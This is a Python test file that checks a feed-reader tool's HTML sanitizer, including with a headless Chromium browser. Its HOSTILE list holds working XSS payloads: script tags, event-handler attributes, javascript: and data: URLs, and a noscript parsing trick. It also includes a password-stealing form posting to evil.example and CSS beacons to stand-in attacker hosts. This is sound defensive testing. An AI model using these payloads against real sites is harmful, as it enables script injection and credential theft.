"""Hostile feed content never survives into a digest or an export, and the HTML digest runs
no script in a real browser (headless Chromium)."""

from __future__ import annotations

import os
import re
import shutil
import subprocess
from pathlib import Path

import feedparser
import lxml.html
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from plnctl.api import Pln
from plnctl.models import SourceKind
from plnctl.render.digest import render_digest
from plnctl.render.sanitize import clean_html, safe_url
from tests.share.conftest import NOW, add_person, add_post, add_question, save

PWN = "document.body.setAttribute('data-pwned','{}')"
HOSTILE = [
    f"<script>{PWN.format(1)}</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    f'<img src=x onerror="{PWN.format(2)}">',
    f'<svg onload="{PWN.format(3)}"><circle r="1"/></svg>',
    f'<iframe srcdoc="<script>parent.{PWN.format(4)}</script>"></iframe>',
    f'<a href="javascript:{PWN.format(5)}">click me</a>',
    f'<a href=" JaVaScRiPt:{PWN.format(6)}">click me too</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>',
    '<form action="https://evil.example/steal"><input name="password"><button>Go</button></form>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>@import url(https://evil.example/i.css); body{background:url(https://evil.example/b)}</style>",
    '<div style="background:url(https://evil.example/track.png)">styled text</div>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y.swf">',
    f'<details open ontoggle="{PWN.format(7)}"><summary>s</summary></details>',
    f'<noscript><p title="</noscript><img src=x onerror={PWN.format(8)}>"></noscript>',
    f'<math><mi xlink:href="javascript:{PWN.format(9)}">m</mi></math>',
    '<img src="https://tracker.example/pixel.gif" width="1" height="1">',
    f'<video><source onerror="{PWN.format(10)}"></video>',
    "<p>The honest paragraph survives.</p>",
]
HOSTILE_HTML = "".join(HOSTILE)
FORBIDDEN_TAGS = {
    "script",
    "iframe",
    "form",
    "input",
    "button",
    "link",
    "style",
    "object",
    "embed",
    "svg",
    "math",
    "base",
    "img",
    "video",
    "source",
    "noscript",
    "details",
}


def _assert_safe_html(markup: str, *, our_meta: int = 0) -> None:
    """No element, attribute or URL from the hostile list made it through."""
    page = lxml.html.document_fromstring(markup)
    for chart in page.xpath('//svg[starts-with(@aria-label, "Posts this week")]'):
        # plnctl's own week chart: static shapes and text only, no references.
        inner = {el.tag for el in chart.iter() if isinstance(el.tag, str)} - {"svg"}
        assert inner <= {"title", "rect", "text", "line", "g"}, inner
        chart.drop_tree()
    tags = {el.tag for el in page.iter() if isinstance(el.tag, str)}
    assert not tags & FORBIDDEN_TAGS, tags & FORBIDDEN_TAGS
    assert len(page.findall(".//meta")) == our_meta
    for el in page.iter():
        if not isinstance(el.tag, str):
            continue
        for name, value in el.attrib.items():
            assert not name.lower().startswith("on"), (el.tag, name)
            assert "javascript:" not in value.lower() and "data:" not in value.lower(), value
            assert "url(" not in value.lower(), (el.tag, name, value)
            assert "evil.example" not in value and "tracker.example" not in value, value
    assert "data-pwned" not in markup.replace(PWN.format(""), "") or "<script" not in markup.lower()
    assert not re.search(r"<\s*script", markup, re.I)


@pytest.fixture
def hostile(pln: Pln) -> Pln:
    person = add_person(
        pln,
        'Mallory <img src=x onerror="alert(1)">',
        SourceKind.FEED,
        "https://mallory.example/feed",
    )
    post = add_post(
        pln,
        person,
        fetched_at="2026-11-28T06:00:00Z",
        topics=("<b>assessment</b>",),
        url="javascript:alert(document.cookie)",
        title='Totally normal <script>alert("title")</script> post',
        published_at="2026-11-28T05:00:00Z",
        content_html=HOSTILE_HTML,
        content_text="The honest paragraph survives.",
    )
    short = add_post(
        pln,
        person,
        fetched_at="2026-11-28T06:10:00Z",
        url="https://mallory.example/2",
        title="Short one",
        published_at="2026-11-28T06:00:00Z",
        content_html=HOSTILE[2] + HOSTILE[5] + "<p>ok</p>",
        content_text="ok",
    )
    save(pln, post, "2026-11-28T06:30:00Z", note='<script>alert("note")</script>')
    save(pln, short, "2026-11-28T06:31:00Z")
    add_question(
        pln,
        '<img src=x onerror="alert(2)"> question?',
        asked_at="2026-11-20T00:00:00Z",
        url="javascript:alert(3)",
    )
    return pln


def test_hostile_content_never_survives_the_html_digest(hostile: Pln) -> None:
    digest = hostile.share.build_digest(since="24h", now=NOW)
    html = render_digest(digest, "html", now=NOW)
    _assert_safe_html(html, our_meta=4)
    assert "The honest paragraph survives." in html or "ok" in html
    assert "Totally normal &lt;script&gt;" in html  # titles are text, escaped


def test_hostile_content_never_survives_the_atom_digest(hostile: Pln) -> None:
    parsed = feedparser.parse(
        render_digest(hostile.share.build_digest(since="24h", now=NOW), "atom", now=NOW)
    )
    assert len(parsed.entries) == 2
    for entry in parsed.entries:
        assert not entry.get("link", "").startswith("javascript")
        for content in entry.get("content", []):
            _assert_safe_html(f"<html><body>{content.value}</body></html>")


@pytest.mark.parametrize("fmt", ["html", "bookmarks", "atom", "md", "opml"])
def test_hostile_content_never_survives_an_export(hostile: Pln, fmt: str) -> None:
    text = hostile.share.export_reading_list(fmt, include_notes=True, now=NOW)
    assert "javascript:" not in text.lower()
    # Markdown keeps the text but escapes it (CommonMark renders \< as a literal <).
    assert not re.search(r"(?<!\\)<\s*script", text, re.I)
    if fmt in ("html", "bookmarks"):
        _assert_safe_html(text, our_meta=4 if fmt == "html" else 1)


def test_markdown_renders_to_safe_html(hostile: Pln) -> None:
    """Rendered by a CommonMark parser that passes raw HTML through (markdown-it's
    "commonmark" preset), the digest and the export still carry no markup from the feed."""
    from markdown_it import MarkdownIt

    md = MarkdownIt("commonmark")
    digest = render_digest(hostile.share.build_digest(since="24h", now=NOW), "md", now=NOW)
    export = hostile.share.export_reading_list("md", include_notes=True, now=NOW)
    for text in (digest, export):
        html = md.render(text)
        _assert_safe_html(f"<html><body>{html}</body></html>")
        assert "&lt;script&gt;" in html  # shown as text, not dropped silently


@pytest.mark.parametrize(
    "url,safe",
    [
        ("https://ok.example/a?b=1", "https://ok.example/a?b=1"),
        ("mailto:me@example.org", "mailto:me@example.org"),
        ("javascript:alert(1)", None),
        (" JAVASCRIPT:alert(1)", None),
        ("data:text/html,x", None),
        ("vbscript:x", None),
        ("/relative/path", None),
        ("https://ok.example/\nx", None),
        (None, None),
    ],
)
def test_safe_url(url: str | None, safe: str | None) -> None:
    assert safe_url(url) == safe


@settings(max_examples=150, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [
                *HOSTILE,
                "text & <b>bold</b>",
                "<p>",
                "</p>",
                "<a href='https://ok.example'>",
                "</a>",
                "<!-- c -->",
                "<",
                ">",
                '"',
                "'",
            ]
        ),
        max_size=8,
    ),
    st.text(max_size=40),
)
def test_clean_html_property(fragments: list[str], noise: str) -> None:
    cleaned = clean_html(noise.join(fragments))
    if cleaned:
        _assert_safe_html(f"<html><body>{cleaned}</body></html>")


# --- a real browser ---------------------------------------------------------------------------

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")


def _chromium(tmp_path: Path, page: Path, *extra: str) -> subprocess.CompletedProcess[str]:
    assert CHROMIUM
    return subprocess.run(
        [
            CHROMIUM,
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-background-networking",
            "--disable-component-update",
            "--disable-sync",
            "--no-first-run",
            f"--user-data-dir={tmp_path / 'profile'}",
            *extra,
            page.as_uri(),
        ],
        capture_output=True,
        text=True,
        timeout=90,
        check=True,
        env=os.environ | {"HOME": str(tmp_path)},  # Chromium writes crash reports under HOME
    )


def _shape(markup: str) -> list[tuple[str, tuple[tuple[str, str], ...]]]:
    """Elements and attributes of <body>, in document order: what a script would change."""
    body = lxml.html.document_fromstring(markup).find("body")
    assert body is not None
    return [
        (el.tag, tuple(sorted(el.attrib.items()))) for el in body.iter() if isinstance(el.tag, str)
    ]


@pytest.mark.skipif(CHROMIUM is None, reason="Chromium is not installed (apt-get install chromium)")
def test_chromium_runs_no_script_in_the_digest(hostile: Pln, tmp_path: Path) -> None:
    html = render_digest(hostile.share.build_digest(since="24h", now=NOW), "html", now=NOW)
    # As shipped (with its Content-Security-Policy), and with the CSP removed, so that the
    # sanitizer alone is shown to be enough.
    without_csp = re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>\n', "", html)
    assert without_csp != html
    for name, markup in (("digest.html", html), ("no-csp.html", without_csp)):
        page = tmp_path / name
        page.write_text(markup, encoding="utf-8")
        dom = _chromium(tmp_path, page, "--dump-dom").stdout
        assert "data-pwned" not in dom
        assert _shape(dom) == _shape(markup), f"{name}: the DOM changed after load"
